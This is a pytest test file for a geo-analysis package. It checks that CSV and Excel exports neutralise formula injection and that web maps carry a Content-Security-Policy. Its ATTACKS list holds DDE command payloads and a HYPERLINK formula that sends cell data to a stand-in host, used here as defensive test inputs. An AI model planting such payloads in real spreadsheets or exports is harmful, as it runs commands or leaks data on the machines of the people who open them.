"""Injection into maps and spreadsheets (issue 17, items 5 and 6).

Formula injection: every CSV geo_ip writes goes through :func:`geo_ip._util.safe_cells.to_csv`
(OWASP: text cells starting with ``= + - @``, tab or CR gain a leading ``'``; numbers
stay numbers) and every workbook is written with strings as text, never as formulas.
Stored XSS: every web map carries a Content-Security-Policy that forbids inline event
handlers (the search box itself is checked in Chromium, ``tests/test_browser.py``).
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import folium
import numpy as np
import pandas as pd
import pytest
import xlsxwriter
from openpyxl import load_workbook
from typer.testing import CliRunner

import geo_ip
from geo_ip._util.safe_cells import XLSX_OPTIONS, neutralise, neutralise_frame, to_csv
from geo_ip.cli.app import app
from geo_ip.outputs.web.assets import CONTENT_SECURITY_POLICY, localise
from geo_ip.outputs.workbook import _Sheet, _write_sheets

runner = CliRunner()

ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemplo.invalid/?d="&A1,"clique")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
)
"""Protocol numbers that a spreadsheet program would run as formulas."""


# --- unit ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+55 11 99999-0000", "'+55 11 99999-0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        *((a, "'" + a) for a in ATTACKS),
        # harmless: plain decimal numbers, a lone character, text starting otherwise
        ("-3.5", "-3.5"),
        ("-22.906017", "-22.906017"),
        ("+3,5", "+3,5"),
        ("-1", "-1"),
        ("-", "-"),
        ("PED-2026-0101", "PED-2026-0101"),
        (" =1+1", " =1+1"),
        ("", ""),
        # numbers stay numbers
        (-3.5, -3.5),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise_follows_the_owasp_guidance(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_only_text_columns_are_neutralised_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "protocolo": ["=1+1", "PED-1", None, "-2+3"],
            "valor": [-3.5, 2.0, np.nan, -1.0],
            "inteiro": [-3, 1, 2, 4],
            "misto": pd.Series([-3.5, "=A1", "x", None], dtype=object),
            "texto": pd.Series(["@x", "y", None, "z"], dtype="string"),
            "categoria": pd.Categorical(["=a", "b", "b", "b"]),
        }
    )
    before = frame.copy()
    safe = neutralise_frame(frame)
    pd.testing.assert_frame_equal(frame, before)  # the caller's table is untouched
    assert safe["protocolo"].tolist()[:2] == ["'=1+1", "PED-1"]
    assert safe["protocolo"].isna().tolist() == [False, False, True, False]
    assert safe["protocolo"].iloc[3] == "'-2+3"
    assert safe["valor"].dtype == float and safe["valor"].iloc[0] == -3.5
    assert safe["inteiro"].dtype == frame["inteiro"].dtype
    assert safe["misto"].tolist()[:3] == [-3.5, "'=A1", "x"]
    assert safe["texto"].iloc[0] == "'@x"
    assert safe["categoria"].iloc[0] == "'=a"
    clean = pd.DataFrame({"protocolo": ["PED-1"], "valor": [-1.5]})
    assert neutralise_frame(clean) is clean  # nothing to do: no copy


def test_csv_reads_back_numbers_as_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"protocolo": list(ATTACKS), "latitude": [-22.9, -22.8, -1.0, 0, 3]})
    to_csv(frame, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["protocolo", "latitude"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert [r[1] for r in rows[1:]] == ["-22.9", "-22.8", "-1.0", "0.0", "3.0"]
    assert to_csv(frame) == (tmp_path / "t.csv").read_text(encoding="utf-8")


def test_workbook_options_write_formulas_as_text(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    book = xlsxwriter.Workbook(str(path), XLSX_OPTIONS)
    sheet = book.add_worksheet("t")
    sheet.write_row(0, 0, [*ATTACKS, "http://exemplo.invalid", -3.5])
    book.close()
    cells = next(load_workbook(path).active.iter_rows())
    assert [c.data_type for c in cells] == ["s"] * (len(ATTACKS) + 1) + ["n"]
    assert [c.value for c in cells] == [*ATTACKS, "http://exemplo.invalid", -3.5]
    assert all(c.hyperlink is None for c in cells)


def test_every_csv_of_geo_ip_goes_through_the_shared_writer() -> None:
    """A ``.to_csv(`` of geo_ip's own outputs anywhere else would bypass the quoting."""
    package = Path(geo_ip.__file__).parent
    allowed = {"_util/safe_cells.py", "territory/synthetic_requests.py"}  # writer; test inputs
    sources = sorted(package.rglob("*.py"))
    assert len(sources) > 80  # every module, in every sub-package
    found = [
        f"{p.relative_to(package)}:{n}"
        for p in sources
        if p.relative_to(package).as_posix() not in allowed
        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), start=1)
        if re.search(r"\.to_csv\(|csv\.writer|DictWriter", line)
    ]
    assert found == []
    for source in ("cip/outputs.py", "batch/consolidate.py"):  # every xlsxwriter workbook
        text = (package / source).read_text(encoding="utf-8")
        calls = re.findall(r"xlsxwriter\.Workbook\(([^\n]*)", text)
        assert calls and all("XLSX_OPTIONS" in c for c in calls), source
    # ranking.xlsx (rustpy-xlsxwriter): formulas and links only from options never given
    text = (package / "outputs/workbook.py").read_text(encoding="utf-8")
    assert "write_worksheets(" in text
    assert not re.search(r"formula_columns|url_columns|totals_row|xlsxwriter\.Workbook", text)
    writers = [
        p.relative_to(package).as_posix()
        for p in sources
        if re.search(r"xlsxwriter\.Workbook\(|write_worksheets?\(", p.read_text(encoding="utf-8"))
    ]
    assert writers == ["batch/consolidate.py", "cip/outputs.py", "outputs/workbook.py"]


def test_commission_workbook_writes_formulas_and_links_as_text(tmp_path: Path) -> None:
    path = tmp_path / "ranking.xlsx"
    cells = [*ATTACKS, "http://exemplo.invalid", "mailto:a@b.invalid"]
    frame = pd.DataFrame({"protocolo": cells, "motivos": cells, "custo_estimado_rs": -3.5})
    _write_sheets(path, [_Sheet.of("Classificação", frame)], {})
    rows = list(load_workbook(path).active.iter_rows())
    assert [c.value for c in rows[0]] == ["Protocolo", "Motivos", "Custo estimado rs"]
    for column in (0, 1):
        assert [r[column].value for r in rows[1:]] == cells
        assert [r[column].data_type for r in rows[1:]] == ["s"] * len(cells)
    assert all(c.hyperlink is None for r in rows for c in r)
    assert [r[2].value for r in rows[1:]] == [-3.5] * len(cells)


def test_maps_carry_a_policy_that_forbids_inline_event_handlers() -> None:
    m = folium.Map(tiles=None)
    localise(m, "assets/")
    page = m.get_root().render()
    head = page[: page.index("</head>")]
    meta = f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}"/>'
    assert meta in head
    assert head.index(meta) < head.index("<script")  # before any script runs
    rules = dict(r.strip().split(" ", 1) for r in CONTENT_SECURITY_POLICY.split(";"))
    assert rules["script-src-attr"] == "'none'"
    assert rules["object-src"] == "'none'" and rules["base-uri"] == "'none'"
    assert {"https:", "data:"} <= set(rules["img-src"].split())  # OpenStreetMap tiles


# --- end to end through the command line --------------------------------------------------------

HEADER = "protocolo,data_protocolo,tipo,latitude,longitude,residencias,bairro,observacoes"


def _hostile_requests(folder: Path) -> Path:
    rows = [
        [ATTACKS[0], "2026-05-06", "melhoria", "-22.906017", "-46.389418", "2", "=1+1", "@x"],
        [ATTACKS[1], "2026-05-07", "extensao_rede", "-22.912493", "-46.395050", "3", "+55 11", ""],
        [ATTACKS[2], "2026-05-08", "extensao_rede", "-22.9", "-46.38", "1", "Centro", "-2+3"],
    ]
    path = folder / "pedidos.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(HEADER.split(","))
        writer.writerows(rows)
    return path


def _cells(path: Path, column: str) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [row[column] for row in csv.DictReader(f)]


@pytest.fixture(scope="module")
def hostile(demo_territory: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """``geo-ip avaliar``, ``requests check`` and ``geocode`` of hostile requests."""
    folder = tmp_path_factory.mktemp("injecao")
    requests = str(_hostile_requests(folder))
    territory = str(demo_territory)
    for args in (
        ["avaliar", "--territory", territory, "--requests", requests, "--rules", "demo",
         "--out", str(folder / "avaliacao"), "--sem-mapas", "--sem-fichas",
         "--data-referencia", "2026-11-20"],
        ["pedidos", "conferir", requests, "--territory", territory, "--rules", "demo",
         "--out", str(folder / "relatorio_pedidos.csv")],
        ["geocodificar", "--territory", territory, "--input", requests, "--rules", "demo",
         "--out", str(folder / "geocodificados.csv")],
    ):  # fmt: skip
        result = runner.invoke(app, ["-q", *args])
        assert result.exit_code == 0, result.output
    return folder


def test_ranking_xlsx_keeps_hostile_protocols_as_text(hostile: Path) -> None:
    book = load_workbook(hostile / "avaliacao" / "ranking.xlsx")
    for name in ("Classificação", "Critérios", "Evidências"):
        sheet = book[name]
        header = [c.value for c in next(sheet.iter_rows(max_row=1))]
        column = header.index("Protocolo")
        cells = [row[column] for row in sheet.iter_rows(min_row=2)]
        assert sorted(c.value for c in cells) == sorted(ATTACKS[:3]), name
        assert {c.data_type for c in cells} == {"s"}, name
    formulas = [
        f"{sheet.title}!{c.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []


def test_csvs_quote_hostile_text_and_keep_numbers(hostile: Path) -> None:
    expected = sorted("'" + a for a in ATTACKS[:3])
    ranking = hostile / "avaliacao" / "ranking.csv"
    assert sorted(_cells(ranking, "protocolo")) == expected
    assert all(not v.startswith("'") for v in _cells(ranking, "pontuacao_total"))
    for name in ("relatorio_pedidos.csv", "geocodificados.csv"):
        path = hostile / name
        assert sorted(_cells(path, "protocolo")) == expected, name
        assert _cells(path, "bairro") == ["'=1+1", "'+55 11", "Centro"], name
        assert _cells(path, "latitude") == ["-22.906017", "-22.912493", "-22.9"], name
    # read back with pandas, the negative coordinates are still numbers
    table = pd.read_csv(hostile / "geocodificados.csv")
    assert table["latitude"].dtype == float and (table["latitude"] < 0).all()
